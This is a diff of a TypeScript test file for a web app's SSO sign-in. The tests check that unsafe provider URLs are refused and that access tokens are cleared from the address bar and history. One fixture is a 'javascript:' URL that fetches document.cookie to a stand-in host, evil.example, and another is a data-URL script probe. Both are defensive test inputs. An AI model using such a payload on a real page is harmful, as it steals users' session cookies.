@@ -1,5 +1,6 @@
 import { describe, expect, it, vi } from 'vitest';
 import { ApiError } from '../../../src/application/errors/ApiError';
+import { AuthError } from '../../../src/application/usecases/auth/AuthError';
 import { STORAGE_KEYS } from '../../../src/application/ports/KeyValueStore';
 import type { SsoProvider } from '../../../src/domain/auth/Tokens';
 import { SsoCallbackPresenter } from '../../../src/presentation/auth/presenters/SsoCallbackPresenter';
@@ -95,6 +96,16 @@ describe('social sign-in from the cta', () => {
     expect(app.completeProfileRequests()).toBe(1);
   });
 
+  it('a provider whose address is not safe is an error toast saying so, and signs nobody in', async () => {
+    const { app, modal } = withSocial({ authedBefore: true });
+    app.identity.queueAnswer(AuthError.unsafeUrl());
+    modal.socialClicked('google');
+    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
+    expect(app.notifier.messages('error')).toEqual(["This sign-in provider's address is not safe, so the app will not open it."]);
+    expect(app.auth.callsOf('withProvider')).toEqual([]);
+    expect(modal.flow).toMatchObject({ open: true, step: 'cta' });
+  });
+
   it('a second click while a provider is busy is ignored, and dispose stops it silently', async () => {
     const { app, modal } = withSocial({ authedBefore: true });
     app.auth.queueProvider({ kind: 'exchange', exchangeToken: 'ex-1' });
@@ -154,11 +165,36 @@ describe('custom SSO and SSO buttons', () => {
   });
 });
 
+describe('an SSO authorize URL that is not safe', () => {
+  const UNSAFE = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';
+
+  it("'continue to log in' opens nothing, keeps no state and says why in an error toast", () => {
+    const app = authApp({ auth: { ...CUSTOM_SSO, providers: { customSso: { authorizeUrl: UNSAFE, clientId: 'client-1' } } } });
+    const modal = app.open({ returnPath: '/contents/7' });
+    modal.continueClicked();
+    expect(app.external.departures).toEqual([]);
+    expect(app.sessionStore.get(STORAGE_KEYS.ssoState)).toBeNull();
+    expect(app.notifier.messages('error')).toEqual(["This sign-in provider's address is not safe, so the app will not open it."]);
+    expect(modal.flow).toMatchObject({ open: true, step: 'custom_sso' });
+  });
+
+  it('an SSO button does the same, in Italian for an Italian visitor', async () => {
+    const app = authApp({ auth: { providers: { cvespa: { authorizeUrl: 'data:text/html,<script>alert(1)</script>', clientId: 'cv' } } } });
+    await app.i18n.localeChosen('it');
+    const modal = app.open();
+    const [button] = modal.ssoButtons;
+    if (!button) throw new Error('no SSO button');
+    modal.ssoClicked(button);
+    expect(app.external.departures).toEqual([]);
+    expect(app.notifier.messages('error')).toEqual(['L’indirizzo di questo servizio di accesso non è sicuro, quindi l’app non lo aprirà.']);
+  });
+});
+
 describe('SsoCallbackPresenter', () => {
   async function startedThenBack(callback: { hash?: string; search?: string }, options: { provider?: SsoProvider } = {}) {
     const app = authApp({ auth: CUSTOM_SSO });
     app.open().continueClicked();
-    const presenter = new SsoCallbackPresenter(app.deps, options.provider ?? 'custom-sso');
+    const presenter = new SsoCallbackPresenter(app.deps, options.provider ?? 'custom-sso', app.navigator);
     const result = await presenter.callbackReceived({ hash: callback.hash ?? '', search: callback.search ?? '' }, new AbortController().signal);
     return { app, presenter, result };
   }
@@ -193,7 +229,7 @@ describe('SsoCallbackPresenter', () => {
 
   it('a callback that was never started here fails the same way', async () => {
     const app = authApp({ auth: CUSTOM_SSO });
-    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso');
+    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
     expect(await presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, new AbortController().signal)).toBe(false);
     expect(presenter.failureMessage).toBe('This sign-in link is not valid any more. Please start again.');
     expect(app.auth.callsOf('withProvider')).toEqual([]);
@@ -210,7 +246,7 @@ describe('SsoCallbackPresenter', () => {
     const app = authApp({ auth: CUSTOM_SSO });
     app.open().continueClicked();
     app.auth.queueProvider(new ApiError(401, 'InvalidToken', 'The SSO token has expired.'));
-    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso');
+    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
     await presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, new AbortController().signal);
     expect(presenter.failureMessage).toBe('The SSO token has expired.');
   });
@@ -220,7 +256,7 @@ describe('SsoCallbackPresenter', () => {
     app.open().continueClicked();
     app.auth.queueProvider({ kind: 'exchange', exchangeToken: 'ex-9' });
     app.auth.queueExchange({ kind: 'pending' });
-    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso');
+    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
     const abort = new AbortController();
     const result = presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, abort.signal);
     await vi.waitFor(() => expect(app.clock.pendingDelays()).toEqual([1000]));
@@ -235,8 +271,68 @@ describe('SsoCallbackPresenter', () => {
   it('a paid network sends the member to the return path kept with the state', async () => {
     const app = authApp({ network: { accessType: 'purchasable', purchasable: true }, auth: CUSTOM_SSO });
     app.open({ returnPath: '/contents/7' }).continueClicked();
-    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso');
+    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', app.navigator);
     expect(await presenter.callbackReceived({ hash: '#access_token=tok-1&state=random-1', search: '' }, new AbortController().signal)).toBe(true);
-    expect(app.navigator.navigations).toEqual([{ path: '/contents/7', replace: true }]);
+    expect(app.navigator.navigations).toEqual([
+      { path: '/auth/custom-sso', replace: true },
+      { path: '/contents/7', replace: true },
+    ]);
+  });
+});
+
+describe('SsoCallbackPresenter: the token leaves the address bar and the history first', () => {
+  /** A navigator that notes, with each move, how many token exchanges the back end had been asked for. */
+  function recordingNavigator(app: AuthApp) {
+    const moves: { path: string; replace: boolean; exchangesBefore: number }[] = [];
+    const navigator = {
+      goTo: (path: string, options?: { replace?: boolean }) => {
+        moves.push({ path, replace: options?.replace ?? false, exchangesBefore: app.auth.callsOf('withProvider').length });
+        app.navigator.goTo(path, options);
+      },
+    };
+    return { navigator, moves };
+  }
+
+  it.each([
+    { outcome: 'a successful sign-in', hash: '#access_token=tok-1&state=random-1&token_type=bearer', provider: 'custom-sso' as const, path: '/auth/custom-sso', signedIn: true },
+    { outcome: 'a forged state', hash: '#access_token=tok-1&state=forged', provider: 'custom-sso' as const, path: '/auth/custom-sso', signedIn: false },
+    { outcome: 'a provider error without a token', hash: '#error=access_denied&state=random-1', provider: 'custom-sso' as const, path: '/auth/custom-sso', signedIn: false },
+    { outcome: 'another provider', hash: '#access_token=tok-1&state=random-1', provider: 'y-tech' as const, path: '/auth/y-tech/callback', signedIn: false },
+  ])('after $outcome, the callback entry is replaced by its bare path before any exchange', async ({ hash, provider, path, signedIn }) => {
+    const app = authApp({ auth: CUSTOM_SSO });
+    app.open().continueClicked();
+    const { navigator, moves } = recordingNavigator(app);
+    const presenter = new SsoCallbackPresenter(app.deps, provider, navigator);
+    const result = await presenter.callbackReceived({ hash, search: '' }, new AbortController().signal);
+    expect(result).toBe(signedIn);
+    expect(moves[0]).toEqual({ path, replace: true, exchangesBefore: 0 });
+    // Nothing else carries the token back into the history.
+    expect(moves.every((move) => move.replace && !move.path.includes('tok-1') && !move.path.includes('state='))).toBe(true);
+  });
+
+  it('the token in the query (code=…) goes too, and the token still reaches the exchange', async () => {
+    const app = authApp({ auth: CUSTOM_SSO });
+    app.open().continueClicked();
+    const { navigator, moves } = recordingNavigator(app);
+    // A live location object: what the page hands over is read before the address changes.
+    const location = { hash: '', search: '?code=tok-1&state=random-1' };
+    const cleaning = { goTo: (path: string, options?: { replace?: boolean }) => {
+      location.search = '';
+      navigator.goTo(path, options);
+    } };
+    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', cleaning);
+    expect(await presenter.callbackReceived(location, new AbortController().signal)).toBe(true);
+    expect(moves[0]).toEqual({ path: '/auth/custom-sso', replace: true, exchangesBefore: 0 });
+    expect(app.auth.callsOf('withProvider')).toEqual([['custom-sso', 'tok-1', 'https://app.example/sample/auth/custom-sso']]);
+  });
+
+  it('a second run (a remount) does not move again', async () => {
+    const app = authApp({ auth: CUSTOM_SSO });
+    app.open().continueClicked();
+    const { navigator, moves } = recordingNavigator(app);
+    const presenter = new SsoCallbackPresenter(app.deps, 'custom-sso', navigator);
+    const callback = { hash: '#access_token=tok-1&state=random-1', search: '' };
+    await Promise.all([presenter.callbackReceived(callback), presenter.callbackReceived(callback)]);
+    expect(moves.filter((move) => move.path === '/auth/custom-sso')).toHaveLength(1);
   });
 });
